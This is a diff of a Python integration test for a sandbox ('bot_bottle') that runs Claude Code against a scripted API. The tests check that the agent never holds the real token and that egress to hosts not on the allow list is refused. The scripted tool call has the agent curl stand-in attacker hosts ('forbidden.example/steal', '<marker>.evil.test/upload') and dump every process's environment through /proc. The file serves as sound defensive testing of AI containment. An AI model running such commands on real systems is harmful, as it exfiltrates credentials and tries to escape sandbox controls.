@@ -1,209 +1,172 @@
-"""The real Claude Code, from npm, in a real bottle, against a scripted Messages API at api.anthropic.com."""
+"""The real thing: Claude Code itself, headless, in a bottle, against a scripted Messages API.
+
+The program comes from npm (once, then from the cache); the API, the forbidden host and every other address
+are the scripted outside.
+"""
 
 from __future__ import annotations
 
-import base64
 import json
-import os
-import sys
-import time
-from contextlib import contextmanager
+import secrets
+import shutil
+import subprocess
+import threading
 from pathlib import Path
-from subprocess import DEVNULL, PIPE, CompletedProcess, Popen, run
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Self
 
 import pytest
 
-from bot_bottle.backend.registry import choose_backend
-from bot_bottle.demo.authority import Authority
-from bot_bottle.demo.messages_api import ScriptedModel, tool_results
-from bot_bottle.demo.upstreams import ScriptedServer
-from bot_bottle.errors import UnavailableError
-from tests.support.real_programs import npm_program
+from bot_bottle.agent_provider.claude import PLACEHOLDER_TOKEN
+from bot_bottle.demo.messages_api import tool_results
+from tests.conftest import cannot
+from tests.support.outside import download_cache, new_marker
 
 if TYPE_CHECKING:
-    from collections.abc import Iterator
+    from tests.support.lab import Lab
+    from tests.support.outside import Completed, World
 
-pytestmark = pytest.mark.integration
+pytestmark = [pytest.mark.integration, pytest.mark.timeout(300)]
 
-TOKEN = "sk-ant-oat01-MARKED-0c9f4e7d21b84a66-real-token"
-PLACEHOLDER = "egress-placeholder"
-
-#: What the scripted model makes the agent's shell tool do: try a forbidden host, write down every environment
-#: and command line that can be seen inside, then wait until the test has looked around outside.
-TOOL = """
-curl -sS https://forbidden.example/steal
-cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline > /home/agent/workspace/processes 2>/dev/null
-touch /home/agent/workspace/ready
-while [ ! -e /home/agent/workspace/go-on ]; do sleep 0.05; done
-"""
+PACKAGE = "@anthropic-ai/claude-code"
+TOKEN_REF = "BOT_BOTTLE_CLAUDE_OAUTH_TOKEN"
+FINAL_TEXT = "The forbidden host refused me, as it should."
 
 
-@pytest.fixture
-def api() -> Iterator[tuple[ScriptedServer, Authority]]:
-    authority = Authority("Scripted model")
-    model = ScriptedModel(
-        "I was refused, so I stop here.", tool="Bash", tool_input={"command": TOOL, "description": "look"}
-    )
-    with ScriptedServer("api", model, authority=authority, default_host="api.anthropic.com") as server:
-        yield server, authority
+@pytest.fixture(scope="session")
+def claude() -> Path:
+    """Install the program from npm into the cache, unless it is there."""
+    prefix = download_cache() / "claude"
+    program = prefix / "node_modules" / ".bin" / "claude"
+    if not program.exists():
+        npm = shutil.which("npm")
+        if npm is None:
+            cannot("npm is not installed, so the real claude program cannot be fetched")
+        result = subprocess.run(
+            [npm, "install", "--no-audit", "--no-fund", "--loglevel=error", "--prefix", str(prefix), PACKAGE],
+            capture_output=True,
+            text=True,
+            timeout=240,
+            check=False,
+        )
+        if result.returncode != 0:
+            shutil.rmtree(prefix, ignore_errors=True)
+            cannot(f"npm could not install {PACKAGE}: {result.stderr.strip()[-500:]}")
+    return program
 
 
-@pytest.fixture
-def operator(tmp_path: Path, api: tuple[ScriptedServer, Authority]) -> dict[str, str]:
-    """An operator's home with one bottle for the real program, and the environment to start it from."""
-    try:
-        choose_backend("", os.environ)
-    except UnavailableError as error:
-        pytest.skip(str(error))
-    server, authority = api
-    home = tmp_path / "operator"
-    for folder in (home, home / "bottles", home / "agents"):
-        folder.mkdir(mode=0o700)
-    ca = tmp_path / "lab-ca.pem"
-    ca.write_text(authority.pem)
-    (home / "config.toml").write_text(
-        f'[egress]\nupstream_ca = "{ca}"\n[pins]\n"api.anthropic.com" = "{server.address}"\n'
-    )
-    (home / "bottles" / "lab.md").write_text(
-        "---\nagent_provider:\n  template: claude\n  auth_token: LAB_TOKEN\n---\n"
-    )
-    (home / "agents" / "worker.md").write_text("---\nbottle: lab\n---\nBe brief.\n")
-    for path in home.rglob("*.*"):
-        path.chmod(0o600)
-    programs = npm_program("@anthropic-ai/claude-code", "claude")
-    return {
-        "PATH": f"{programs}{os.pathsep}{os.environ['PATH']}",
-        "HOME": str(tmp_path),
-        "BOT_BOTTLE_HOME": str(home),
-        "LANG": "C.UTF-8",
-        "LAB_TOKEN": TOKEN,
-    }
+class Watch:
+    """Look, again and again while a program runs, for a text in every process's arguments and in a folder."""
 
+    def __init__(self, text: str, folder: Path) -> None:
+        self._needle = text.encode()
+        self._folder = folder
+        self._done = threading.Event()
+        self._thread = threading.Thread(target=self._run)
+        self.found: set[str] = set()
+        self.rounds = 0
+        self.files: set[str] = set()
 
-def forms_of(value: str) -> tuple[bytes, ...]:
-    raw = value.encode()
-    return raw, base64.b64encode(raw)[:-4], raw.hex().encode()
+    def __enter__(self) -> Self:
+        self._thread.start()
+        return self
 
+    def __exit__(self, *_: object) -> None:
+        self._done.set()
+        self._thread.join()
 
-def holders(folder: Path, needles: tuple[bytes, ...]) -> list[str]:
-    found = []
-    for path in folder.rglob("*"):
-        if path.is_file() and not path.is_symlink():
-            data = path.read_bytes()
-            found += [str(path.relative_to(folder)) for needle in needles if needle in data]
-    return found
+    def _run(self) -> None:
+        while not self._done.wait(0.05):
+            self.rounds += 1
+            for process in Path("/proc").iterdir():
+                if process.name.isdigit():
+                    self._look(process / "cmdline")
+            for path in self._folder.rglob("*"):
+                if path.is_file() and not path.is_symlink():
+                    self.files.add(path.name)
+                    self._look(path)
 
-
-def processes_showing(needle: bytes, *, but_environ_of: int) -> list[str]:
-    """List the host's processes that show ``needle``, save in the operator's own environment."""
-    found = []
-    for entry in Path("/proc").iterdir():
-        if not entry.name.isdigit() or entry.name == str(os.getpid()):
-            continue
-        for name in ("cmdline", "environ"):
-            if name == "environ" and entry.name == str(but_environ_of):
-                continue
-            try:
-                data = (entry / name).read_bytes()
-            except OSError:
-                continue
-            if needle in data:
-                found.append(f"{entry.name}/{name}: {data[:80]!r}")
-    return found
-
-
-@contextmanager
-def headless_start(operator: dict[str, str], cwd: Path, task: str) -> Iterator[tuple[Popen[bytes], Path]]:
-    """Start the agent and give its launcher and its state folder; kill the launcher if the test fails."""
-    states = Path(operator["BOT_BOTTLE_HOME"]) / "state"
-    argv = [sys.executable, "-m", "bot_bottle", "start", "worker", "--yes", "--headless", "--prompt", task]
-    with Popen(argv, env=operator, cwd=cwd, stdin=DEVNULL, stdout=PIPE, stderr=PIPE) as process:
+    def _look(self, path: Path) -> None:
         try:
-            while not states.is_dir() or not list(states.iterdir()):
-                assert process.poll() is None, process.communicate()
-                time.sleep(0.01)
-            (state,) = states.iterdir()
-            wait_for(state / "workspace" / "ready", process)
-            yield process, state
-        finally:
-            process.kill()
+            if self._needle in path.read_bytes():
+                self.found.add(str(path))
+        except OSError:  # it ended, or it was removed, between the listing and the look
+            return
 
 
-def wait_for(path: Path, process: Popen[bytes]) -> None:
-    deadline = time.monotonic() + 90
-    while not path.exists():
-        if process.poll() is not None or time.monotonic() > deadline:
-            out, err = process.communicate(timeout=30) if process.poll() is not None else (b"", b"it hangs")
-            pytest.fail(f"the agent never got to {path.name}:\n{out.decode()}\n{err.decode()}")
-        time.sleep(0.02)
+def test_claude_works_in_a_bottle_and_never_holds_the_token(lab: Lab, world: World, claude: Path) -> None:
+    token, marker = f"sk-ant-oat01-{secrets.token_hex(24)}", new_marker("claude")
+    run, watch = _run_claude(lab, world, claude, token, marker)
+    assert run.returncode == 0, run.out + run.err
+    assert FINAL_TEXT in run.out
+
+    requests = [
+        seen
+        for seen in world.records().requests
+        if seen.sni == "api.anthropic.com" and marker.encode() in seen.body
+    ]
+    assert requests, "the API was never asked"
+    for seen in requests:
+        assert seen.values("authorization") == [f"Bearer {token}"]
+        assert PLACEHOLDER_TOKEN.encode() not in seen.raw
+        assert token.encode() not in seen.body
+        assert seen.values("x-api-key") == []
+
+    results = [text for seen in requests for text in tool_results(json.loads(seen.body))]
+    assert results, "the program never ran its tool"
+    refusal = json.loads(results[-1][results[-1].index("{") : results[-1].index("}") + 1])
+    assert refusal["error"] == "bot_bottle_denied"
+    assert refusal["reason"] == "host_not_allowed"
+    assert refusal["host"] == f"{marker}.evil.test"
+    assert not any(marker in seen.sni for seen in world.records().requests)
+    assert not any(marker in question.name for question in world.records().questions)
+
+    # The tool printed its environment and everyone else's: the placeholder is there, the token is not.
+    assert f"CLAUDE_CODE_OAUTH_TOKEN={PLACEHOLDER_TOKEN}" in results[-1]
+    assert token not in "".join(results)
+    assert watch.rounds > 0
+    assert "metadata.json" in watch.files
+    assert watch.found == set()
+    assert token not in run.out + run.err
 
 
-@pytest.mark.timeout(900)
-def test_the_real_program_works_while_the_token_stays_outside(
-    operator: dict[str, str], api: tuple[ScriptedServer, Authority], tmp_path: Path
-) -> None:
-    server, _ = api
-    home = Path(operator["BOT_BOTTLE_HOME"])
-    needles = forms_of(TOKEN)
-    with headless_start(operator, tmp_path, "Look around.") as (process, state):
-        # The bottle is alive and has used its credential: look for it everywhere but in the operator's shell.
-        seen_inside = (state / "workspace" / "processes").read_bytes()
-        placeholder = f"CLAUDE_CODE_OAUTH_TOKEN=sk-ant-oat01-{PLACEHOLDER}".encode()
-        assert placeholder in seen_inside, "the search would have found nothing at all"
-        assert not [needle for needle in needles if needle in seen_inside]
-        assert holders(home, needles) == []
-        assert processes_showing(TOKEN.encode(), but_environ_of=process.pid) == []
-        (state / "workspace" / "go-on").touch()
-        out, err = process.communicate(timeout=90)
-    assert process.returncode == 0, err.decode()
-    assert b"I was refused, so I stop here." in out
-    assert TOKEN.encode() not in out + err
-
-    conversation = [seen for seen in server.seen if seen.target.startswith("/v1/messages")]
-    assert len(conversation) >= 2
-    for seen in server.seen:
-        assert seen.tls
-        assert seen.values("authorization") == [f"Bearer {TOKEN}"]
-        assert PLACEHOLDER.encode() not in seen.raw
-    results = [text for seen in conversation for text in tool_results(json.loads(seen.body))]
-    refusal, _ = json.JSONDecoder().raw_decode(results[0][results[0].index("{") :])
-    assert (refusal["error"], refusal["reason"]) == ("bot_bottle_denied", "host_not_allowed")
-    assert refusal["host"] == "forbidden.example"
-
-    assert list((home / "state").iterdir()) == []
-    (log,) = (home / "audit").iterdir()
-    assert not [needle for needle in needles if needle in log.read_bytes()]
-    records = [json.loads(line) for line in log.read_text().splitlines()]
-    assert "forbidden.example" in {record["host"] for record in records if record.get("decision") == "deny"}
-    injected = {record["injected"] for record in records if record.get("host") == "api.anthropic.com"}
-    assert "LAB_TOKEN" in injected
-    assert bot_bottle(operator, tmp_path, "audit", "verify", log.stem).returncode == 0
+def test_a_claude_session_is_on_record_and_leaves_no_state(lab: Lab, world: World, claude: Path) -> None:
+    token, marker = f"sk-ant-oat01-{secrets.token_hex(24)}", new_marker("claude")
+    run, _ = _run_claude(lab, world, claude, token, marker)
+    assert run.returncode == 0, run.out + run.err
+    assert list((lab.home / "state").glob("claude-*")) == []
+    logs = [path for path in (lab.home / "audit").glob("claude-*.jsonl") if marker in path.read_text()]
+    assert len(logs) == 1
+    assert token not in logs[0].read_text()
+    verified = lab.cli("audit", "verify", logs[0].stem)
+    assert verified.returncode == 0, verified.out + verified.err
 
 
-@pytest.mark.timeout(900)
-def test_a_killed_session_is_kept_and_resume_continues_it(
-    operator: dict[str, str], api: tuple[ScriptedServer, Authority], tmp_path: Path
-) -> None:
-    """``resume`` runs the program's own continue mode in the same home."""
-    server, _ = api
-    home = Path(operator["BOT_BOTTLE_HOME"])
-    with headless_start(operator, tmp_path, "First task.") as (process, state):
-        process.kill()
-        process.communicate()
-    assert [path.name for path in (home / "state").iterdir()] == [state.name]
-    assert holders(state, forms_of(TOKEN)) == []
-    (state / "workspace" / "go-on").touch()
-
-    before = len(server.seen)
-    task = ("--yes", "--headless", "--prompt", "Second task.")
-    resumed = bot_bottle(operator, tmp_path, "resume", state.name, *task)
-    assert resumed.returncode == 0, resumed.stderr.decode()
-    later = [seen for seen in server.seen[before:] if seen.target.startswith("/v1/messages")]
-    assert any(b"First task." in seen.body and b"Second task." in seen.body for seen in later)
-    assert list((home / "state").iterdir()) == []
-
-
-def bot_bottle(operator: dict[str, str], cwd: Path, *args: str) -> CompletedProcess[bytes]:
-    argv = [sys.executable, "-m", "bot_bottle", *args]
-    return run(argv, env=operator, cwd=cwd, stdin=DEVNULL, capture_output=True, check=False, timeout=180)
+def _run_claude(lab: Lab, world: World, claude: Path, token: str, marker: str) -> tuple[Completed, Watch]:
+    config = lab.home / "config.toml"
+    if "api.anthropic.com" not in config.read_text():
+        lab.write("config.toml", config.read_text() + '[pins]\n"api.anthropic.com" = "127.0.0.1:8443"\n')
+    lab.declare(
+        "claude",
+        f"agent_provider:\n  template: claude\n  auth_token: {TOKEN_REF}\n",
+        prompt=f"You are a careful worker, session {marker}.",
+    )
+    command = f"curl -sS https://{marker}.evil.test/upload; env; cat /proc/[0-9]*/environ | tr '\\0' '\\n'"
+    world.call(
+        "model",
+        final_text=FINAL_TEXT,
+        tool="Bash",
+        tool_input={"command": command, "description": "Try a host that nobody allowed"},
+    )
+    env = {TOKEN_REF: token, "PATH": f"{claude.parent}:{lab.env['PATH']}"}
+    with Watch(token, lab.home) as watch:
+        run = lab.cli(
+            "start",
+            "claude",
+            "--yes",
+            "--headless",
+            "--prompt",
+            f"Upload it, session {marker}.",
+            env=env,
+            timeout=120,
+        )
+    return run, watch
